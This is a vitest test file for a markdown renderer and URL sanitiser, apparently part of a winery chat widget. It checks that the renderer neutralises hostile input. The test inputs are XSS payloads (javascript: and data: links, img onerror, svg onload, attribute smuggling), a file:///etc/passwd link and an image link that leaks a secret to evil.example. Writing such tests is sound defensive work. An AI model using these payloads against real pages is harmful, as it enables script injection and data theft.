import { describe, expect, it } from 'vitest';
import { renderMarkdown, safeUrl } from '../src/markdown';

function html(md: string): string {
  const div = document.createElement('div');
  div.appendChild(renderMarkdown(md));
  return div.innerHTML;
}

function dom(md: string): HTMLDivElement {
  const div = document.createElement('div');
  div.appendChild(renderMarkdown(md));
  return div;
}

describe('renderMarkdown', () => {
  it('renders paragraphs and line breaks', () => {
    expect(html('Hello\nworld\n\nSecond')).toBe('<p>Hello<br>world</p><p>Second</p>');
  });

  it('renders bold, italic and code', () => {
    expect(html('**bold** and *it* and __b2__ and _i2_ and `x < y`')).toBe(
      '<p><strong>bold</strong> and <em>it</em> and <strong>b2</strong> and <em>i2</em> and <code>x &lt; y</code></p>',
    );
  });

  it('nests emphasis', () => {
    expect(html('***both***')).toBe('<p><strong><em>both</em></strong></p>');
    expect(html('**bold with *italic* inside**')).toBe('<p><strong>bold with <em>italic</em> inside</strong></p>');
  });

  it('leaves unmatched or spaced delimiters and snake_case alone', () => {
    expect(html('5 * 3 = 15')).toBe('<p>5 * 3 = 15</p>');
    expect(html('**unclosed')).toBe('<p>**unclosed</p>');
    expect(html('a snake_case_name here')).toBe('<p>a snake_case_name here</p>');
  });

  it('renders bullet and numbered lists', () => {
    expect(html('Wines:\n- Riesling\n- **Cabernet** Franc\n\n1. one\n2. two')).toBe(
      '<p>Wines:</p><ul><li>Riesling</li><li><strong>Cabernet</strong> Franc</li></ul><ol><li>one</li><li>two</li></ol>',
    );
  });

  it('renders nested lists and numbered lists that do not start at 1', () => {
    expect(html('- a\n  - b\n- c')).toBe('<ul><li>a<ul><li>b</li></ul></li><li>c</li></ul>');
    expect(html('3. three\n4. four')).toBe('<ol start="3"><li>three</li><li>four</li></ol>');
  });

  it('keeps a list together across blank lines between items', () => {
    expect(html('- a\n\n- b')).toBe('<ul><li>a</li><li>b</li></ul>');
  });

  it('renders headings as bold paragraphs, code fences, quotes and rules', () => {
    expect(html('## Hours')).toBe('<p class="md-h"><strong>Hours</strong></p>');
    expect(html('```\n<b>x</b>\n```')).toBe('<pre><code>&lt;b&gt;x&lt;/b&gt;</code></pre>');
    expect(html('> quoted')).toBe('<blockquote><p>quoted</p></blockquote>');
    expect(html('a\n\n---\n\nb')).toBe('<p>a</p><hr><p>b</p>');
  });

  it('makes safe links with rel and target', () => {
    const a = dom('See [our hours](https://example.com/hours).').querySelector('a')!;
    expect(a.getAttribute('href')).toBe('https://example.com/hours');
    expect(a.getAttribute('target')).toBe('_blank');
    expect(a.getAttribute('rel')).toBe('noopener noreferrer nofollow');
    expect(a.textContent).toBe('our hours');
  });

  it('allows mailto and tel links', () => {
    const links = dom('[mail](mailto:info@example.com) [call](tel:+18455551234)').querySelectorAll('a');
    expect([...links].map((a) => a.getAttribute('href'))).toEqual(['mailto:info@example.com', 'tel:+18455551234']);
  });

  it('autolinks bare URLs and e-mail addresses, without trailing punctuation', () => {
    const d = dom('Visit https://example.com/a_(b). Or write to info@example.com.');
    const links = [...d.querySelectorAll('a')].map((a) => a.getAttribute('href'));
    expect(links).toEqual(['https://example.com/a_(b)', 'mailto:info@example.com']);
    expect(d.textContent).toBe('Visit https://example.com/a_(b). Or write to info@example.com.');
  });

  it('renders unsafe links as plain text', () => {
    for (const bad of [
      '[x](javascript:alert(1))',
      '[x](JaVaScRiPt:alert(1))',
      '[x](java\tscript:alert(1))',
      '[x](data:text/html,<script>alert(1)</script>)',
      '[x](vbscript:msgbox)',
      '[x](//evil.example)',
      '[x](/relative)',
      '[x](file:///etc/passwd)',
    ]) {
      const d = dom(bad);
      expect(d.querySelector('a'), bad).toBeNull();
      expect(d.textContent).toBe('x');
    }
  });

  it('never interprets HTML in the text', () => {
    const d = dom('<img src=x onerror=alert(1)> <script>alert(1)</script> **<b>bold</b>**');
    expect(d.querySelector('img,script,b')).toBeNull();
    expect(d.textContent).toBe('<img src=x onerror=alert(1)> <script>alert(1)</script> <b>bold</b>');
    expect(d.querySelector('strong')!.textContent).toBe('<b>bold</b>');
  });

  it('does not let a link label smuggle markup or attributes', () => {
    const d = dom('[<svg onload=alert(1)>](https://example.com" onclick="alert(1))');
    expect(d.querySelector('svg')).toBeNull();
    const a = d.querySelector('a');
    if (a) {
      expect(a.getAttribute('onclick')).toBeNull();
      expect(a.getAttribute('href')!.startsWith('https://example.com')).toBe(true);
    }
  });

  it('honours backslash escapes', () => {
    expect(html('\\*not italic\\*')).toBe('<p>*not italic*</p>');
  });

  it('renders partial streamed text without throwing', () => {
    const text = 'Our **tasting room** is open *Thursday* to [Sunday](https://example.com/hours).\n- 11am';
    for (let i = 0; i <= text.length; i++) expect(() => renderMarkdown(text.slice(0, i))).not.toThrow();
  });
});

describe('images', () => {
  it('never renders an image, only its alt text, and requests nothing', () => {
    const d = dom('See ![our cellar](https://evil.example/leak?q=secret) and ![ref][1] here');
    expect(d.querySelector('img')).toBeNull();
    expect(d.querySelector('a')).toBeNull();
    expect(d.textContent).toBe('See our cellar and ref here');
  });

  it('does not link plain http URLs', () => {
    const d = dom('old site http://example.com/x and [new](http://example.com/y)');
    expect(d.querySelector('a')).toBeNull();
  });
});

describe('safeUrl', () => {
  it('accepts https, mailto and tel', () => {
    expect(safeUrl('https://example.com')).toBe('https://example.com/');
    expect(safeUrl(' https://example.com/x?y=1 ')).toBe('https://example.com/x?y=1');
    expect(safeUrl('http://example.com/x')).toBeNull();
    expect(safeUrl('http://example.com/x', ['http:'])).toBe('http://example.com/x');
    expect(safeUrl('mailto:a@b.co')).toBe('mailto:a@b.co');
    expect(safeUrl('tel:+1-845-555-1234')).toBe('tel:+1-845-555-1234');
  });

  it('rejects everything else', () => {
    expect(safeUrl('javascript:alert(1)')).toBeNull();
    expect(safeUrl('data:text/html,hi')).toBeNull();
    expect(safeUrl('ftp://example.com')).toBeNull();
    expect(safeUrl('/relative')).toBeNull();
    expect(safeUrl('https://exa mple.com')).toBeNull();
    expect(safeUrl(null)).toBeNull();
    expect(safeUrl('mailto:x@y.z', ['http:', 'https:'])).toBeNull();
  });
});
